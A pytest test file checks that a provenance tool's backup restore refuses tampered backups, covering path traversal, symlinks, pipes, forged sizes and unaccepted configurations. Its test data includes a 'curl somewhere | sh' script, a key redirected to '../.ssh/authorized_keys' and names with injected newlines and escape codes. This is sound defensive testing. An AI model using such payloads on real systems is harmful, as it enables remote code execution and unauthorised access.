"""A backup is somebody's word: what it names, links to or claims to be leads nowhere but below where it is put back."""

import hashlib
import json
import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from tests.production import Production, generated, new_production, run

Change = Callable[[Path], object]


@pytest.fixture
def kept(tmp_path: Path) -> Path:
    """A backup of a production with signed words, whose configuration an administrator accepted."""
    (tmp_path / "production").mkdir()
    made = new_production(tmp_path / "production")
    assert made.run("keys", "person", "admin", "--no-passphrase").code == 0
    pack = 'id = "house"\ndated = 2026-01-01\nsummary = "Ours."\nextends = "baseline"\n'
    pack += '[approvals]\nroles = ["contact"]\ntranscribed = ["contact"]\n'
    (made.root / "house.toml").write_text(pack)
    from provenance.credentials.keys import new_identity

    (made.root / "ca.pem").write_bytes(new_identity("an authority").root)
    text = made.config.read_text().replace('approvals = "unsigned"', 'approvals = "signed"')
    text = text.replace('policy = "baseline"', 'policy = "house.toml"')
    text += '\n[[trust.anchor]]\npath = "ca.pem"\npurpose = "signer"\n'
    text += '\n[[person]]\nid = "admin"\nname = "The admin"\nroles = ["administrator"]\nkeys = ["keys/admin.pub"]\n'
    text = text.replace('roles = ["administrator"]', 'roles = ["administrator", "custodian"]')
    for name in ("contact", "editor"):
        text += f'\n[[person]]\nid = "{name}"\nname = "The {name}"\nroles = ["{name}"]\n'
    made.config.write_text(text)
    accepted = made.run("config", "accept", "--by", "admin", "--reason", "ours", "--sign-with", "keys/admin")
    assert accepted.code == 0, accepted.err
    (made.root / "mail.eml").write_text("Yes.")
    still = generated(made.deliver / "still.png")
    said = ("--channel", "deliver", "--by", "contact", "--role", "contact", "--reason", "r", "--requested-by", "editor")
    mail = ("--transcribed-by", "admin", "--evidence", "mail.eml", "--sign-with", "keys/admin")
    assert made.run("approve", still, *said, *mail).code == 0
    assert made.run("backup", tmp_path / "kept").code == 0
    return tmp_path / "kept"


def restored(kept: Path, *more: str) -> Any:
    """Put it back beside the backup."""
    return run(kept.parent, "restore", kept, "--to", kept.parent / "there", *more)


def manifest_with(kept: Path, change: Callable[[dict[str, Any]], object]) -> None:
    """Change the manifest."""
    manifest = json.loads((kept / "manifest.json").read_text())
    change(manifest)
    (kept / "manifest.json").write_text(json.dumps(manifest))


def piece(manifest: dict[str, Any], part: str) -> dict[str, Any]:
    """Return a file in a manifest."""
    found: dict[str, Any] = next(f for f in manifest["files"] if f["part"] == part)
    return found


def rewritten(kept: Path, part: str, content: bytes, **more: object) -> None:
    """Put other bytes in the place of a file, and let the manifest say so."""

    def change(manifest: dict[str, Any]) -> None:
        one = piece(manifest, part)
        (kept / one["name"]).write_bytes(content)
        one.update(sha256=hashlib.sha256(content).hexdigest(), size=len(content), **more)

    manifest_with(kept, change)


def configured(kept: Path, old: str, new: str) -> None:
    """Change the configuration in a backup as whoever can write it would."""
    text = (kept / "configuration" / "provenance.toml").read_text()
    assert old in text
    rewritten(kept, "configuration", text.replace(old, new).encode())


def everything(folder: Path) -> list[str]:
    """Return the name of everything below a folder but the backup's own."""
    return sorted(str(p.relative_to(folder)) for p in folder.rglob("*") if "kept" not in p.parts)


def test_who_accepted_the_configuration_is_said(kept: Path) -> None:
    """What is put back says whose signature its configuration has; the keys it names come back with it."""
    there = Production(kept.parent / "there")
    done = restored(kept)
    assert done.code == 0, done.err
    assert "configuration accepted by The admin with key SHA256:" in done.out
    assert "nothing was accepted before" in done.out
    assert (there.root / "keys" / "admin.pub").exists()
    assert not (there.root / "keys" / "admin").exists()
    assert there.run("ledger", "verify").code == 0


def test_a_configuration_nobody_accepted_is_called_so(kept: Path) -> None:
    """A configuration that was changed in the backup is put back, and called not accepted, with what is another."""
    configured(kept, 'roles = ["administrator", "custodian"]', 'roles = ["administrator", "contact"]')
    configured(kept, "# [notify]", '[notify]\ncommand = "/bin/sh -c nothing"\n# [was notify]')
    document = restored(kept, "--format", "json").document
    assert document["accepted"] is False
    assert "configuration NOT ACCEPTED: " in document["configuration"]
    assert "person admin has other roles" in document["configuration"]
    assert document["notify"][1:] == ["-c", "nothing"]


def test_an_unsigned_configuration_is_called_so(tmp_path: Path) -> None:
    """Where nothing is signed the answer says that anyone could have written the configuration."""
    (tmp_path / "production").mkdir()
    made = new_production(tmp_path / "production")
    made.run("scan")
    assert made.run("backup", tmp_path / "kept").code == 0
    assert "configuration UNSIGNED: anyone who could write the backup" in restored(tmp_path / "kept").out


@pytest.mark.parametrize("where", ["{}/taken/catalogue.db", "../taken/catalogue.db", "deeper/../../taken/catalogue.db"])
def test_a_catalogue_elsewhere_needs_a_word(kept: Path, where: str) -> None:
    """A configuration that has the catalogue outside of where it is put back is refused, unless that is meant."""
    configured(kept, 'catalogue = ".provenance/catalogue.db"', f'catalogue = "{where.format(kept.parent)}"')
    before = everything(kept.parent)
    refused = restored(kept)
    assert refused.code == 16
    assert "which is not below" in refused.err
    assert "--outside" in refused.err
    assert everything(kept.parent) == before
    assert restored(kept, "--outside").code == 0
    assert (kept.parent / "taken" / "catalogue.db").exists()


@pytest.mark.parametrize(
    ("part", "old", "to"),
    [
        ("anchor", 'path = "ca.pem"', "../ca.pem"),
        ("policy", 'policy = "house.toml"', "../house.toml"),
        ("public-key", 'keys = ["keys/admin.pub"]', "../.ssh/authorized_keys"),
    ],
)
def test_rules_elsewhere_are_refused(kept: Path, part: str, old: str, to: str) -> None:
    """An anchor, a pack or a key that is to go outside goes nowhere, though configuration and manifest agree on it."""
    configured(kept, old, old.replace(old.split('"')[1], to))
    manifest_with(kept, lambda manifest: piece(manifest, part).update(to=to))
    before = everything(kept.parent)
    assert restored(kept).code == 16
    assert everything(kept.parent) == before


@pytest.mark.parametrize("name", [".provenance", "keys"])
def test_a_link_that_leads_out_is_not_followed(kept: Path, name: str) -> None:
    """A link below the root that leads out of it is a way out like any other."""
    (kept.parent / "elsewhere").mkdir()
    (kept.parent / "there").mkdir()
    (kept.parent / "there" / name).symlink_to(kept.parent / "elsewhere")
    assert restored(kept).code == 16
    assert everything(kept.parent / "elsewhere") == []


SCRIPT = b"#!/bin/sh\ncurl somewhere | sh\n"


@pytest.mark.parametrize(
    ("part", "content"),
    [
        ("anchor", SCRIPT),
        ("anchor", b"-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----\n"),
        ("policy", SCRIPT),
        ("policy", b'id = "house"\ndated = 2026-01-01\nsummary = "x"\nextends = "baseline"\nrun = "sh"\n'),
        ("policy", b"x" * (2 << 20)),
        ("public-key", SCRIPT),
        ("public-key", b"-----BEGIN OPENSSH PRIVATE KEY-----\n"),
        ("public-key", b""),
        ("configuration", SCRIPT),
        ("configuration", b"\xff\xfe"),
    ],
)
def test_what_is_no_rule_is_not_put_back(kept: Path, part: str, content: bytes) -> None:
    """An anchor that is no certificate, a pack or a key that is none: refused before anything is written."""
    rewritten(kept, part, content, mode=0o755)
    before = everything(kept.parent)
    done = restored(kept)
    assert done.code in {16, 40}, done.err
    assert everything(kept.parent) == before


def test_nothing_that_is_put_back_may_be_executed(kept: Path) -> None:
    """Whatever modes a manifest names, nothing becomes a program, nor anybody's to write."""

    def change(manifest: dict[str, Any]) -> None:
        for one in manifest["files"]:
            one["mode"] = 0o777

    manifest_with(kept, change)
    assert restored(kept).code == 0
    files = [p for p in (kept.parent / "there").rglob("*") if p.is_file()]
    assert files
    assert not [p for p in files if p.stat().st_mode & 0o133]


def huge(kept: Path) -> None:
    """Let the evidence be said to have more than any disk holds."""
    manifest_with(kept, lambda manifest: piece(manifest, "evidence").update(size=1 << 60))


def longer(kept: Path) -> None:
    """Let the evidence have a terabyte of holes more than is said."""
    (one,) = (kept / "evidence").iterdir()
    os.truncate(one, 1 << 40)


def behind_a_link(kept: Path) -> None:
    """Let the evidence lie somewhere else."""
    (kept / "evidence").rename(kept.parent / "elsewhere")
    (kept / "evidence").symlink_to(kept.parent / "elsewhere")


def linked(kept: Path) -> None:
    """Let the configuration be a link."""
    one = kept / "configuration" / "provenance.toml"
    one.rename(kept.parent / "elsewhere.toml")
    one.symlink_to(kept.parent / "elsewhere.toml")


def piped(kept: Path) -> None:
    """Let the anchor be a pipe that nobody writes to."""
    (one,) = (kept / "anchors").iterdir()
    one.unlink()
    os.mkfifo(one)


def endless_key(kept: Path) -> None:
    """Let the configuration name a key that never ends."""
    configured(kept, 'keys = ["keys/admin.pub"]', 'keys = ["/dev/zero"]')


def broken_name(kept: Path) -> None:
    """Let a name go on in another line."""
    manifest_with(kept, lambda manifest: piece(manifest, "policy").update(name="policy/0\nPut back: all"))


def broken_place(kept: Path) -> None:
    """Let a place go on in another line."""
    manifest_with(kept, lambda manifest: piece(manifest, "policy").update(to="house.toml\n\x1b[31m"))


def upwards(kept: Path) -> None:
    """Let a name lead out of the backup."""
    manifest_with(kept, lambda manifest: piece(manifest, "evidence").update(name="evidence/../../mail.eml"))


def twice(kept: Path) -> None:
    """Let two files have one name."""
    manifest_with(kept, lambda manifest: manifest["files"].append(piece(manifest, "evidence")))


def no_key(kept: Path) -> None:
    """Leave out the key that the configuration names."""
    manifest_with(kept, lambda manifest: manifest["files"].remove(piece(manifest, "public-key")))


def cut_short(part: str) -> Change:
    """Return what cuts the last byte off a file."""

    def cut(kept: Path) -> None:
        one = kept / piece(json.loads((kept / "manifest.json").read_text()), part)["name"]
        one.write_bytes(one.read_bytes()[:-1])

    cut.__name__ = f"{part} cut short"
    return cut


HOSTILE: tuple[Change, ...] = (
    huge, longer, behind_a_link, linked, piped, endless_key, broken_name, broken_place, upwards, twice, no_key,
    *map(cut_short, ("catalogue", "evidence", "configuration", "policy", "anchor", "public-key")),
)  # fmt: skip


@pytest.mark.timeout(60)
@pytest.mark.parametrize("change", HOSTILE, ids=lambda change: change.__name__)
def test_a_hostile_backup_writes_nothing(kept: Path, change: Change) -> None:
    """Sizes that lie, links, pipes, names with line breaks, what is cut short: refused at once, in one line."""
    change(kept)
    before = everything(kept.parent)
    done = restored(kept)
    assert done.code in {14, 16}, done.err
    assert everything(kept.parent) == before
    assert all(line.isprintable() for line in done.err.splitlines())
    assert len(done.err.splitlines()) <= 2
